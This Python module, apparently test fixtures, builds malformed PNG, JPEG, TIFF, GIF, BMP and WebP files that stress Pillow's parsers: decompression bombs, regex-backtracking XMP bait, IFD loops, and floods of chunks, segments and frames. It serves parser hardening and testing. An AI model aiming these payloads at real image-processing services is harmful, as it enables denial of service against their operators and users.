"""Hostile image files built byte by byte: small on the wire, expensive to parse if unguarded.

Each builder starts from a real picture Pillow wrote and splices in what an
attacker controls (text chunks, APPn segments, IFD entries, frames), so the
files get past format sniffing and reach the parsers we want to stress.
"""

from __future__ import annotations

import struct
import zlib

from PIL import Image

import imagegen

# Unterminated open tags: each start makes a backtracking regex scan to the end of the text.
XMP_BAIT = b"<dc:title>"
# About 1 MB once inflated: what Pillow lets one compressed PNG text chunk expand to.
INFLATED = 1_000_000


def bait(size: int = INFLATED, pattern: bytes = XMP_BAIT) -> bytes:
    return (pattern * (size // len(pattern) + 1))[:size]


# ---------------------------------------------------------------- PNG


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    )


def png_with(chunks: list[bytes], *, after_idat: bool = False) -> bytes:
    """A small real PNG with ``chunks`` spliced in before IDAT (read at open) or after it (at load)."""
    base = imagegen.encode(Image.new("RGB", (8, 8), "white"), "PNG")
    at = base.index(b"IEND" if after_idat else b"IDAT") - 4
    return base[:at] + b"".join(chunks) + base[at:]


def itxt(key: bytes, text: bytes, *, compressed: bool = True) -> bytes:
    flag = b"\x01\x00" if compressed else b"\x00\x00"
    body = zlib.compress(text, 9) if compressed else text
    return png_chunk(b"iTXt", key + b"\x00" + flag + b"\x00\x00" + body)


def ztxt(key: bytes, text: bytes) -> bytes:
    return png_chunk(b"zTXt", key + b"\x00\x00" + zlib.compress(text, 9))


def png_xmp_itxt(text: bytes | None = None) -> bytes:
    """The measured attack: ~2 KB of PNG whose iTXt XMP inflates to ~1 MB of open tags."""
    return png_with([itxt(b"XML:com.adobe.xmp", bait() if text is None else text)])


def png_xmp_ztxt(text: bytes | None = None) -> bytes:
    return png_with([ztxt(b"XML:com.adobe.xmp", bait() if text is None else text)])


def png_text_flood(chunks: int = 80, size: int = INFLATED) -> bytes:
    """Many compressed text chunks, each at Pillow's per-chunk limit: tens of MB of text in memory."""
    one = ztxt(b"Comment", bait(size, b"a"))
    return png_with([one] * chunks)


def png_iccp_flood(chunks: int = 2_000) -> bytes:
    """ICC chunks of 1 KB that each inflate to 1 MB; Pillow inflates every one (not counted as text)."""
    one = png_chunk(b"iCCP", b"icc\x00\x00" + zlib.compress(b"\x00" * 1_000_000, 9))
    return png_with([one] * chunks)


def png_empty_chunks(size: int = 20_000_000) -> bytes:
    """Empty private chunks, 12 bytes each: one Python iteration each in Pillow's chunk loop."""
    one = png_chunk(b"abCd", b"")
    return png_with([one * (size // len(one))])


def png_grey(width: int, height: int) -> bytes:
    """A flat grey PNG written by hand, so that extreme shapes cost nothing to build."""
    rows = (b"\x00" + b"\x80" * width) * height
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(rows, 9)) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def png_exif(exif: bytes) -> bytes:
    return png_with([png_chunk(b"eXIf", exif)])


def png_declared_size(width: int, height: int) -> bytes:
    return imagegen.bomb_png(width, height)


# ---------------------------------------------------------------- EXIF (a TIFF header and IFDs)


def exif_many_entries(entries: int = 65_535, value_size: int = 60_000) -> bytes:
    """One IFD with ``entries`` ASCII tags, all pointing at the same ``value_size``-byte string."""
    header = b"II*\x00" + struct.pack("<I", 8)
    ifd_size = 2 + 12 * entries + 4
    value_at = 8 + ifd_size
    rows = [
        struct.pack("<HHII", 0x010E if i == 0 else 0xC000 + (i % 0x3000), 2, value_size, value_at)
        for i in range(entries)
    ]
    body = struct.pack("<H", entries) + b"".join(rows) + struct.pack("<I", 0)
    return header + body + b"A" * value_size


def exif_ifd_loop() -> bytes:
    """IFD0 whose Exif sub-IFD pointer and next-IFD pointer both point back at IFD0."""
    header = b"II*\x00" + struct.pack("<I", 8)
    body = struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8)
    return header + body


# ---------------------------------------------------------------- JPEG


def jpeg_with(segments: list[bytes]) -> bytes:
    """A real JPEG with ``segments`` (complete markers) inserted right after SOI."""
    base = imagegen.jpeg(11, (32, 32))
    return base[:2] + b"".join(segments) + base[2:]


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    assert len(payload) <= 65_533
    return struct.pack(">HH", marker, len(payload) + 2) + payload


def jpeg_xmp(text: bytes | None = None) -> bytes:
    payload = b"http://ns.adobe.com/xap/1.0/\x00" + (bait(65_000) if text is None else text)
    return jpeg_with([jpeg_segment(0xFFE1, payload[:65_533])])


def jpeg_exif_flood(segments: int = 300) -> bytes:
    """Pillow concatenates every APP1 Exif segment: 300 of them make a ~20 MB EXIF block."""
    exif = b"Exif\x00\x00" + exif_many_entries(5_000, 4_000)
    first = jpeg_segment(0xFFE1, exif)
    rest = jpeg_segment(0xFFE1, b"Exif\x00\x00" + b"\x00" * 65_000)
    return jpeg_with([first] + [rest] * (segments - 1))


def jpeg_icc_flood(segments: int = 300) -> bytes:
    parts = [
        jpeg_segment(0xFFE2, b"ICC_PROFILE\x00" + bytes([i % 255 + 1, 255]) + b"\x00" * 65_000)
        for i in range(segments)
    ]
    return jpeg_with(parts)


def jpeg_tiny_segments(count: int = 1_000_000) -> bytes:
    """A million empty APP segments (4 bytes each): one Python iteration each in a marker walk."""
    return jpeg_with([b"\xff\xe5\x00\x02" * count])


def jpeg_junk_before_sof(size: int = 4_000_000) -> bytes:
    """Bytes that are not markers: Pillow's JPEG parser steps over them one read(1) at a time."""
    return jpeg_with([jpeg_segment(0xFFE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"), b"\x00" * size])


def jpeg_fill_bytes(size: int = 4_000_000) -> bytes:
    """0xFF fill bytes before a marker: legal in small numbers, one loop iteration each in Pillow."""
    return jpeg_with([b"\xff" * size + b"\xfe\x00\x02"])


def jpeg_photoshop_flood(segments: int = 300) -> bytes:
    """APP13 segments packed with empty 12-byte Photoshop resources, which Pillow walks at open."""
    resource = b"8BIM" + struct.pack(">HBBI", 0x0404, 0, 0, 0)
    payload = b"Photoshop 3.0\x00" + resource * ((65_500 - 14) // len(resource))
    return jpeg_with([jpeg_segment(0xFFED, payload)] * segments)


def jpeg_iptc(records: list[tuple[int, int, bytes]]) -> bytes:
    """A JPEG whose Photoshop APP13 segment carries an IPTC-IIM block of ``records``."""
    block = b"".join(b"\x1c" + bytes([r, d]) + struct.pack(">H", len(v)) + v for r, d, v in records)
    block += b"\x00" * (len(block) & 1)
    resource = b"8BIM" + struct.pack(">HBB", 0x0404, 0, 0) + struct.pack(">I", len(block)) + block
    return jpeg_with([jpeg_segment(0xFFED, b"Photoshop 3.0\x00" + resource)])


def jpeg_scan_flood(size: tuple[int, int] = (4000, 3000), extra_scans: int = 100) -> bytes:
    """A progressive JPEG whose last (refinement) scan is repeated: libjpeg re-walks the image per scan."""
    data = imagegen.encode(Image.new("RGB", size, "gray"), "JPEG", progressive=True, quality=90)
    last, eoi = data.rindex(b"\xff\xda"), data.rindex(b"\xff\xd9")
    return data[:eoi] + data[last:eoi] * extra_scans + data[eoi:]


# ---------------------------------------------------------------- TIFF


def tiff_declared_size(width: int = 1_000_000, height: int = 1_000_000) -> bytes:
    """A baseline TIFF whose header claims ``width`` x ``height`` pixels, with 8 bytes of data."""
    entries = [
        (256, 4, 1, width),  # ImageWidth
        (257, 4, 1, height),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # Photometric: min-is-black
        (273, 4, 1, 0),  # StripOffsets (patched below)
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, height),  # RowsPerStrip
        (279, 4, 1, 8),  # StripByteCounts
    ]
    ifd_at = 8
    data_at = ifd_at + 2 + 12 * len(entries) + 4
    out = b"II*\x00" + struct.pack("<I", ifd_at) + struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        value = data_at if tag == 273 else value
        packed = struct.pack("<HI", value, 0)[:4] if typ == 3 else struct.pack("<I", value)
        out += struct.pack("<HHI", tag, typ, count) + packed
    return out + struct.pack("<I", 0) + b"\x80" * 8


def tiff_ifd_chain(frames: int = 100_000, *, loop: bool = False, dimensions: bool = True) -> bytes:
    """A real 4x4 TIFF whose first IFD links to ``frames`` tiny IFDs (4x4, or without dimensions).

    With ``loop`` the last IFD points back to the first, which Pillow treats as the end of the chain.
    """
    real = imagegen.encode(Image.new("L", (4, 4), 128), "TIFF")
    first = struct.unpack("<I", real[4:8])[0]
    out = bytearray(real)
    count = struct.unpack("<H", real[first : first + 2])[0]
    next_at = first + 2 + 12 * count
    entries = [(256, 4, 1, 4), (257, 4, 1, 4)] if dimensions else [(270, 2, 4, 0x00616263)]
    size = 2 + 12 * len(entries) + 4
    start = len(out)
    out[next_at : next_at + 4] = struct.pack("<I", start)
    for i in range(frames):
        nxt = start + (i + 1) * size if i < frames - 1 else (first if loop else 0)
        out += struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries)
        out += struct.pack("<I", nxt)
    return bytes(out)


def tiff_with_tag(tag: int, kind: int, count: int, payload: bytes) -> bytes:
    """A real 4x4 TIFF with one extra tag whose data (``payload``) sits at the end of the file."""
    real = bytearray(imagegen.encode(Image.new("L", (4, 4), 128), "TIFF"))
    first = struct.unpack("<I", real[4:8])[0]
    count_before = struct.unpack("<H", real[first : first + 2])[0]
    entries = [bytes(real[first + 2 + 12 * i : first + 14 + 12 * i]) for i in range(count_before)]
    entries = [e for e in entries if struct.unpack("<H", e[:2])[0] != tag]
    data_at = len(real) + 2 + 12 * (len(entries) + 1) + 4
    value = struct.pack("<I", data_at) if len(payload) > 4 else payload.ljust(4, b"\x00")
    entries.append(struct.pack("<HHI", tag, kind, count) + value)
    entries.sort(key=lambda e: struct.unpack("<H", e[:2])[0])
    ifd_at = len(real)
    real[4:8] = struct.pack("<I", ifd_at)
    ifd = struct.pack("<H", len(entries)) + b"".join(entries) + struct.pack("<I", 0)
    return bytes(real) + ifd + (payload if len(payload) > 4 else b"")


def tiff_strips(width: int, height: int, strips: int) -> bytes:
    """An uncompressed 8-bit TIFF cut into ``strips`` strips, all reading the same row of data."""
    rows = height // strips
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
    entries += [(273, 4, strips, 0), (277, 3, 1, 1), (278, 4, 1, rows), (279, 4, strips, 0)]
    offsets_at = 8 + 2 + 12 * len(entries) + 4
    counts_at = offsets_at + 4 * strips
    data_at = counts_at + 4 * strips
    out = b"II*\x00" + struct.pack("<IH", 8, len(entries))
    for tag, kind, count, value in entries:
        value = {273: offsets_at, 279: counts_at}.get(tag, value)
        packed = struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
        out += struct.pack("<HHI", tag, kind, count) + packed
    out += struct.pack("<I", 0) + struct.pack(f"<{strips}I", *[data_at] * strips)
    return out + struct.pack(f"<{strips}I", *[width * rows] * strips) + b"\x80" * (width * rows)


def tiff_many_entries(entries: int = 65_535) -> bytes:
    """A TIFF whose only IFD declares ``entries`` entries (a copy of one tag, repeated)."""
    real = imagegen.encode(Image.new("L", (4, 4), 128), "TIFF")
    first = struct.unpack("<I", real[4:8])[0]
    count = struct.unpack("<H", real[first : first + 2])[0]
    own = [real[first + 2 + 12 * i : first + 14 + 12 * i] for i in range(count)]
    filler = struct.pack("<HHII", 0xC000, 2, 4, 0x00616263)
    ifd = struct.pack("<H", entries) + b"".join(own) + filler * (entries - count) + struct.pack("<I", 0)
    return real[:4] + struct.pack("<I", len(real)) + real[8:] + ifd


# ---------------------------------------------------------------- GIF and WebP


def gif_many_frames(frames: int = 200_000) -> bytes:
    """A 1x1 GIF followed by ``frames`` minimal image descriptors (about 13 bytes each)."""
    base = imagegen.encode(Image.new("P", (1, 1)), "GIF")
    assert base.endswith(b";")
    descriptor = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00" + b"\x02\x02\x44\x01\x00"
    return base[:-1] + descriptor * frames + b";"


def gif_extension_flood(count: int = 1_000_000) -> bytes:
    """Empty comment extensions before the first frame: Pillow walks each one at open."""
    base = imagegen.encode(Image.new("P", (1, 1)), "GIF")
    at = base.index(b",")
    return base[:at] + b"!\xfe\x00" * count + base[at:]


def gif_comment_bytes(size: int = 20_000_000, *, after_first_frame: bool = False) -> bytes:
    """One comment extension made of 1-byte sub-blocks, before the first frame (Pillow walks it) or after."""
    base = imagegen.encode(Image.new("P", (1, 1)), "GIF")
    at = len(base) - 1 if after_first_frame else base.index(b",")
    return base[:at] + b"!\xfe" + b"\x01X" * (size // 2) + b"\x00" + base[at:]


def bmp_rle(width: int, height: int, body: bytes, *, bits: int = 8) -> bytes:
    """A BMP with an RLE8 (or RLE4) body, decoded by Pillow in Python."""
    palette = bytes(4 * (1 << bits))
    offset = 14 + 40 + len(palette)
    info = struct.pack(
        "<IiiHHIIiiII", 40, width, height, 1, bits, 1 if bits == 8 else 2, len(body), 2835, 2835, 0, 0
    )
    return b"BM" + struct.pack("<IHHI", offset + len(body), 0, 0, offset) + info + palette + body


def bmp_rle_line_ends(width: int = 10_000, height: int = 5_000) -> bytes:
    """One pixel then end-of-line, per row: Pillow pads each row byte by byte. 21 KB, 12 s unguarded."""
    return bmp_rle(width, height, b"\x01\x05\x00\x00" * height + b"\x00\x01")


def webp_many_frames(frames: int = 20_000) -> bytes:
    """An animated WebP with ``frames`` copies of one tiny ANMF frame."""
    two = [Image.new("RGB", (4, 4), c) for c in ("red", "blue")]
    data = imagegen.encode(two[0], "WEBP", save_all=True, append_images=two[1:], lossless=True)
    at = data.index(b"ANMF")
    size = struct.unpack("<I", data[at + 4 : at + 8])[0]
    frame = data[at : at + 8 + size + (size & 1)]
    head = data[12:at]
    body = b"WEBP" + head + frame * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body
